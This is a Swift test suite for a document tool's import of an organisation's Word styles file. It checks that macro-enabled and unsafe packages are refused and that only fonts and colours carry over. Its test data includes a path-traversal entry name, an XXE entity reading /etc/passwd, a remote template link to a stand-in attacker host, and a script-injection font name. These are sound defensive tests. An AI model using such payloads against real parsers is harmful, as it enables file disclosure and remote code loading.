import Foundation
@testable import PeerPath
@testable import PeerPathFormats
import Testing

/// `--styles` with an organisation's Word file: read with the .odt's safety rules, macros refused,
/// and only fonts and colours carried into the .docx.
@Suite("An organisation's Word styles")
struct WordStylesTests {
    static let w = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\""

    static let contentTypes = Array("""
        <?xml version="1.0" encoding="UTF-8"?>
        <Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>\
        <Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>
        """.utf8)

    static func styles(font: String = "Verdana", colour: String = "8A1538", body: String = "") -> [UInt8] {
        Array("""
        <?xml version="1.0" encoding="UTF-8"?>
        <w:styles \(w)><w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:ascii="\(font)" w:hAnsi="\(font)"/><w:sz w:val="24"/></w:rPr></w:rPrDefault></w:docDefaults>\
        <w:style w:type="paragraph" w:styleId="Heading1"><w:name w:val="heading 1"/><w:rPr><w:rFonts w:ascii="Georgia"/><w:color w:val="\(colour)"/></w:rPr></w:style>\(body)</w:styles>
        """.utf8)
    }

    /// A Word package of the entries given (no `mimetype`: a .docx has none).
    static func zip(_ entries: [(String, [UInt8])]) -> Data {
        var archive = ZipArchive()
        for (name, bytes) in entries { archive.add(try! ZipEntry(deflating: bytes, as: name)) }
        return Data(archive.finish())
    }

    static func word(_ extra: [(String, [UInt8])] = [], styles: [UInt8] = styles(), types: [UInt8] = contentTypes) -> Data {
        zip([("[Content_Types].xml", types), ("word/styles.xml", styles)] + extra)
    }

    static func refusal(_ data: Data, named name: String = "house.docx") -> String? {
        do {
            _ = try OrganisationDOCXStyles(file: HostileStyles.write(data, named: name))
            return nil
        } catch {
            return error.message
        }
    }

    @Test func fontsAndColoursAreCarriedIntoTheDocx() throws {
        let styles = try OrganisationDOCXStyles(file: HostileStyles.write(Self.word(), named: "house.dotx"))
        #expect(styles.look.bodyFont == "Verdana")
        #expect(styles.look.headingFont == "Georgia")
        #expect(styles.look.headingColour == "8A1538")
        #expect(styles.look.bodySize == 12)
        let writer = try DOCXWriter(look: styles.look, generator: "test")
        let package = try ODTPackageReader(data: try writer.package(ShippedDocuments.document(.jobDescription)))
        let part = try package.text("word/styles.xml")
        #expect(part.contains("w:ascii=\"Verdana\""))
        #expect(part.contains("<w:color w:val=\"8A1538\"/>"))
        #expect(try package.text("word/fontTable.xml").contains("w:name=\"Georgia\""))
    }

    @Test func macroEnabledFilesAreRefused() throws {
        #expect(Self.refusal(Self.word(), named: "house.docm")?.contains("macro-enabled") == true)
        #expect(Self.refusal(Self.word(), named: "house.dotm")?.contains("macro-enabled") == true)
        #expect(Self.refusal(Self.word([("word/vbaProject.bin", [0, 1, 2])]))?.contains("carries macros") == true)
        let macroTypes = Array(String(decoding: Self.contentTypes, as: UTF8.self)
            .replacingOccurrences(of: "document.main+xml", with: "document.macroEnabled.main+xml").utf8)
        #expect(Self.refusal(Self.word(types: macroTypes))?.contains("macro-enabled") == true)
    }

    @Test func unsafePackagesAreRefused() throws {
        #expect(Self.refusal(Self.word([("../evil.xml", [1])]))?.contains("would escape the package") == true)
        #expect(Self.refusal(Self.word([("/etc/evil.xml", [1])]))?.contains("would escape the package") == true)
        #expect(Self.refusal(Self.word([("word/styles.xml", Self.styles())]))?.contains("two entries") == true)
        let doctype = Array("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><w:styles \(Self.w)/>".utf8)
        #expect(Self.refusal(Self.word(styles: doctype))?.contains("DOCTYPE") == true)
        #expect(Self.refusal(Data("not a zip".utf8))?.contains("not a Word file") == true)
        #expect(Self.refusal(Self.zip([("[Content_Types].xml", Self.contentTypes)]))?.contains("no word/styles.xml") == true)
        let many = Self.word(Array(repeating: ("word/x.xml", [1]), count: OrganisationStyles.maximumEntries))
        #expect(Self.refusal(many)?.contains("entries") == true)
    }

    @Test func valuesOfTheWrongFormAreNotCarriedAndExternalLinksAreNoted() throws {
        let rels = Array("""
            <?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">\
            <Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.invalid/t.dotm" TargetMode="External"/></Relationships>
            """.utf8)
        let styles = try OrganisationDOCXStyles(file: HostileStyles.write(Self.word([("word/_rels/settings.xml.rels", rels)],
                                                                                  styles: Self.styles(font: "Evil&lt;script&gt;", colour: "red"))))
        #expect(styles.look.bodyFont == "Arial")
        #expect(styles.look.headingColour == DOCXLook().headingColour)
        #expect(styles.notes.contains { $0.contains("1 link to outside the file") })
    }

    @Test(.enabled(if: PeerPathProcess.executable != nil, "the peerpath executable was not found beside the tests"))
    func generateRefusesADocmAndUsesADotx() throws {
        let docm = HostileStyles.write(Self.word(), named: "house.docm")
        let out = TestSupport.temporaryFolder()
        let refused = try PeerPathProcess(["generate", TestSupport.fixture("two-roles.yaml"), "--out", out, "--styles", docm])
        #expect(refused.status == 65)
        #expect(refused.stderr.contains("macro-enabled"))
        let dotx = HostileStyles.write(Self.word(), named: "house.dotx")
        let run = try PeerPathProcess(["generate", TestSupport.fixture("two-roles.yaml"), "--out", out, "--styles", dotx, "--formats", "docx"])
        #expect(run.status == 0, "\(run.stderr)")
        #expect(run.stderr.contains("carried into the .docx files: body font Verdana"))
        let package = try ODTPackageReader(data: try #require(FileManager.default.contents(atPath: "\(out)/two-roles/lead/job-description.docx")))
        #expect(try package.text("word/styles.xml").contains("Verdana"))
    }
}
